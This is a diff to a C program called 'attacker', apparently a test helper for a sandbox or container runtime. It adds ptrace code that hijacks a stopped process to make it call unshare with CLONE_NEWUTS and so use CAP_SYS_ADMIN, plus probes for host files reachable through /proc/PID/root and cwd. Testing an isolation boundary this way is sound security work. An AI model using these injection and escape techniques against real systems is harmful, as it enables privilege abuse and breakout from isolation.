@@ -3,7 +3,8 @@
  *
  *   attacker syscalls          one line "NAME ERRNO" (0 when it was allowed) per entry of the table below
  *   attacker entries           the forbidden mkdir-like call through int 0x80 and the x32 numbers
- *   attacker watch t|f|x       until killed: take over, list the descriptors of, write the program of whatever appears
+ *   attacker watch t|f|x|X|r [HOST-FILE]  until killed: take over, list the descriptors of, write the program of, look for
+ *                              the host's file below the root of whatever appears
  *   attacker tty               push a character into the input queue of descriptors 0 to 2
  *   attacker scan              files of /proc and /sys that can be opened for writing
  *   attacker handle            open the directory with inode 2 of every mount by its handle
@@ -36,6 +37,7 @@
 #include <sys/syscall.h>
 #include <sys/sysmacros.h>
 #include <sys/un.h>
+#include <sys/user.h>
 #include <sys/wait.h>
 #include <unistd.h>
 
@@ -199,10 +201,17 @@ static int foreign_program(int pid)
     return stat(path, &st) == 0 && stat("/", &root) == 0 && st.st_dev != root.st_dev;
 }
 
-static void look_at_program(int pid)
+/* only_ours: not the programs of other images. */
+static void look_at_program(int pid, int only_ours)
 {
-    char path[64];
+    char path[64], name[512];
     (void)snprintf(path, sizeof path, "/proc/%d/exe", pid);
+    ssize_t n = readlink(path, name, sizeof name - 1);
+    if (n < 0)
+        return;
+    name[n] = '\0';
+    if (only_ours && strstr(name, "creel") == NULL)
+        return;
     int held = open(path, O_RDONLY | O_CLOEXEC);
     if (held < 0)
         return;
@@ -239,14 +248,76 @@ static unsigned long long status_value(int pid, const char *field, int base)
     return value;
 }
 
+/* A process that nobody can make do more than a few calls may hold what those take. */
+static int is_locked_up(int pid)
+{
+    return status_value(pid, "NoNewPrivs:", 10) == 1 && status_value(pid, "Seccomp_filters:", 10) > 0
+           && status_value(pid, "CapPrm:", 16) == UINT64_C(1) << 21;
+}
+
 /* Whether whoever takes `pid` over gains something. */
 static void judge(int pid, const char *how)
 {
-    if (status_value(pid, "CapPrm:", 16) & ~status_value(getpid(), "CapPrm:", 16))
+    int more = (status_value(pid, "CapPrm:", 16) & ~status_value(getpid(), "CapPrm:", 16)) && !is_locked_up(pid);
+    int free = status_value(pid, "Seccomp_filters:", 10) < status_value(getpid(), "Seccomp_filters:", 10);
+    if (status_value(pid, "Tgid:", 10) == 0)
+        return; /* it is gone, and what was read is nothing */
+    if (more)
         printf("%s with more capabilities\n", how);
-    if (status_value(pid, "Seccomp_filters:", 10) < status_value(getpid(), "Seccomp_filters:", 10))
+    if (free)
         printf("%s without a filter\n", how);
     fflush(stdout);
+}
+
+#ifdef __x86_64__
+/* Make a stopped process do unshare(CLONE_NEWUTS), which takes CAP_SYS_ADMIN, where it was about to return from a call. */
+static void abuse(int pid)
+{
+    struct user_regs_struct before, r;
+    int status;
+    if (ptrace(PTRACE_GETREGS, pid, NULL, &before) < 0)
+        return;
+    errno = 0;
+    long code = ptrace(PTRACE_PEEKTEXT, pid, (void *)(before.rip - 2), NULL);
+    if (errno != 0 || (code & 0xffff) != 0x050f) /* syscall */
+        return;
+    r = before;
+    r.rip -= 2;
+    r.rax = SYS_unshare;
+    r.rdi = CLONE_NEWUTS;
+    r.orig_rax = (unsigned long long)-1; /* not to be restarted */
+    if (ptrace(PTRACE_SETREGS, pid, NULL, &r) == 0 && ptrace(PTRACE_SINGLESTEP, pid, NULL, NULL) == 0
+        && waitpid(pid, &status, __WALL) == pid && WIFSTOPPED(status) && ptrace(PTRACE_GETREGS, pid, NULL, &r) == 0) {
+        printf(r.rax == 0 ? "made to use CAP_SYS_ADMIN\n" : "held\n");
+        fflush(stdout);
+    }
+    if ((long long)before.rax <= -512 && (long long)before.rax >= -516) { /* was interrupted: again, as if nothing had been */
+        before.rip -= 2;
+        before.rax = before.orig_rax;
+    }
+    before.orig_rax = (unsigned long long)-1;
+    (void)ptrace(PTRACE_SETREGS, pid, NULL, &before);
+}
+#else
+static void abuse(int pid)
+{
+    (void)pid;
+}
+#endif
+
+static const char *host_file = "/etc/hostname";
+
+static void look_at_root(int pid)
+{
+    static const char *const links[] = { "root", "cwd" };
+    for (size_t i = 0; i < LEN(links); i++) {
+        char path[512];
+        (void)snprintf(path, sizeof path, "/proc/%d/%s%s", pid, links[i], host_file);
+        if (access(path, F_OK) == 0) {
+            printf("%s of the host\n", links[i]);
+            fflush(stdout);
+        }
+    }
 }
 
 static void trace(int pid)
@@ -256,6 +327,8 @@ static void trace(int pid)
         if (ptrace(PTRACE_INTERRUPT, pid, NULL, NULL) == 0 && waitpid(pid, &status, __WALL) == pid
             && WIFSTOPPED(status)) {
             judge(pid, "traced"); /* it stands still */
+            if (foreign_program(pid))
+                abuse(pid);
             (void)ptrace(PTRACE_DETACH, pid, NULL, NULL);
         }
     }
@@ -286,7 +359,11 @@ _Noreturn static void watch(const char *what)
                 if (strchr(what, 'f') && foreign_program(pid))
                     look_at_descriptors(pid);
                 if (strchr(what, 'x'))
-                    look_at_program(pid);
+                    look_at_program(pid, 0);
+                if (strchr(what, 'X'))
+                    look_at_program(pid, 1);
+                if (strchr(what, 'r'))
+                    look_at_root(pid);
             }
             last = pid;
         }
@@ -456,7 +533,9 @@ int main(int argc, char **argv)
         return try_syscalls();
     if (strcmp(what, "entries") == 0)
         return try_entries();
-    if (strcmp(what, "watch") == 0 && argc == 3)
+    if (strcmp(what, "watch") == 0 && argc == 4)
+        host_file = argv[3];
+    if (strcmp(what, "watch") == 0 && (argc == 3 || argc == 4))
         watch(argv[2]);
     if (strcmp(what, "tty") == 0)
         return push_characters();
